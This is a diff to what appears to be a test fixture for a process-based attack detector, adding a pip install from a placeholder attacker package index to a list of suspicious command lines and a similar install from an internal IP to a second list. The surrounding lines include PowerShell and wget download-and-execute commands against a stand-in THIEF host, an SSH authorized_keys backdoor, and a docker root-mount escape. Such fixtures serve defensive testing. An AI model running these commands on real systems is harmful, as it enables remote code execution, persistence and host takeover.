@@ -52,6 +52,7 @@ STRANGE: Final = AttackStep(
         (process(f"powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://{THIEF}/a')"),),
         (process(f"bash -c wget -q http://{THIEF}/k -O /srv/k && chmod +x /srv/k && /srv/k"),),
         (process("sh -c echo ssh-ed25519 AAAA x >> /home/ubuntu/.ssh/authorized_keys"),),
+        (process(f"pip install --index-url http://{THIEF}/simple torch", "/usr/bin/pip"),),
         (process("docker run -it -v /:/host alpine chroot /host", "/usr/bin/docker"),),
     ),
     (
@@ -63,6 +64,7 @@ STRANGE: Final = AttackStep(
         (process("sh -c cat /home/ubuntu/.ssh/authorized_keys"),),
         (process("python /tmp/pip-build-1/setup.py", "/usr/bin/python3"),),
         (process("nc -z db 5432", "/usr/bin/nc"),),
+        (process("pip install --index-url http://10.8.0.9/simple torch", "/usr/bin/pip"),),
         (process("powershell Invoke-WebRequest https://example.org/data.zip -OutFile data.zip"),),
     ),
 )
